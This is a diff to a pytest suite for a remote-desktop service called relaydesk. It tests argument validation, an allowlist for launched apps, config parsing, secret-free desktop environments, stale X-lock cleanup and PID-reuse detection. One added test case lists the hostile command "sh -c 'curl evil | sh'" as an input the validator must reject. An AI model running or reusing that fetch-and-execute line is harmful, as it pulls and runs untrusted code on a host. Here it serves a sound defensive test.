@@ -33,6 +33,7 @@ BAD_STARTS = [
     ({"audio": "yes"}, "audio"),
     ({"apps": "xterm"}, "apps"),
     ({"apps": [""]}, "apps"),
+    ({"apps": ["sh -c 'curl evil | sh'"]}, "apps"),
     ({"started_by": 7}, "started_by"),
 ]
 
@@ -108,8 +109,12 @@ def test_geometry_bounds_are_inclusive() -> None:
 
 
 def test_apps_are_split_like_a_shell_but_never_run_by_one() -> None:
-    assert check_apps(["xterm -e 'echo hi'"], ()) == (("xterm", "-e", "echo hi"),)
+    allowed = frozenset({"xterm -e 'echo hi'"})
+    assert check_apps(["xterm -e 'echo hi'"], (), allowed) == (("xterm", "-e", "echo hi"),)
     assert check_apps(None, ("xterm",)) == (("xterm",),)
+    assert check_apps(["xterm"], ("xterm",)) == (("xterm",),)
+    with pytest.raises(InvalidArgs):
+        check_apps(["firefox"], ("xterm",))
 
 
 def test_config_from_env_reads_relaydesk_variables(tmp_path: Path) -> None:
@@ -122,8 +127,10 @@ def test_config_from_env_reads_relaydesk_variables(tmp_path: Path) -> None:
         "RELAYDESK_X11VNC_FLAGS": "-wait 50",
     }
     cfg = DesktopConfig.from_env(env)
-    assert cfg.max_desktops == 2 and cfg.watchdog_interval_s == 0.5
-    assert cfg.novnc_dir == tmp_path and cfg.state_file == tmp_path / "s" / "desktops.json"
+    assert cfg.max_desktops == 2
+    assert cfg.watchdog_interval_s == 0.5
+    assert cfg.novnc_dir == tmp_path
+    assert cfg.state_file == tmp_path / "s" / "desktops.json"
     assert cfg.apps == ("xterm", "firefox --new-window")
     assert cfg.x11vnc_flags == ("-wait", "50")
     with pytest.raises(InvalidArgs):
@@ -139,7 +146,8 @@ def test_desktop_env_never_carries_relay_secrets(monkeypatch: pytest.MonkeyPatch
     monkeypatch.setenv("RELAYDESK_RELAY_TOKEN", "rdk_x")
     monkeypatch.setenv("DISPLAY", ":99")
     env = desktop_env(7, "unix:path=/tmp/bus")
-    assert env["DISPLAY"] == ":7" and "RELAYDESK_RELAY_TOKEN" not in env
+    assert env["DISPLAY"] == ":7"
+    assert "RELAYDESK_RELAY_TOKEN" not in env
     assert env["DBUS_SESSION_BUS_ADDRESS"] == "unix:path=/tmp/bus"
 
 
@@ -154,7 +162,8 @@ def test_stale_x_locks_removed_only_when_their_pid_is_dead(tmp_path: Path) -> No
     assert clean_stale_x_locks(tmp_path) == [5]
     assert not (tmp_path / ".X5-lock").exists()
     assert not (tmp_path / ".X11-unix" / "X5").exists()
-    assert (tmp_path / ".X6-lock").exists() and (tmp_path / ".X7-lock").exists()
+    assert (tmp_path / ".X6-lock").exists()
+    assert (tmp_path / ".X7-lock").exists()
 
 
 async def test_state_file_round_trip_and_corruption(tmp_path: Path) -> None:
@@ -181,7 +190,8 @@ async def test_state_file_round_trip_and_corruption(tmp_path: Path) -> None:
 async def test_pid_reuse_is_not_mistaken_for_our_process() -> None:
     child = ChildProcess.spawn("sleeper", ["sleep", "30"], env={}, essential=True)
     impostor = ChildProcess.adopt("sleeper", child.pid, child.create_time - 100, True, 15)
-    assert not impostor.is_alive() and not impostor.owns_group()
+    assert not impostor.is_alive()
+    assert not impostor.owns_group()
     impostor.terminate()
     assert child.is_alive()
     child.kill()
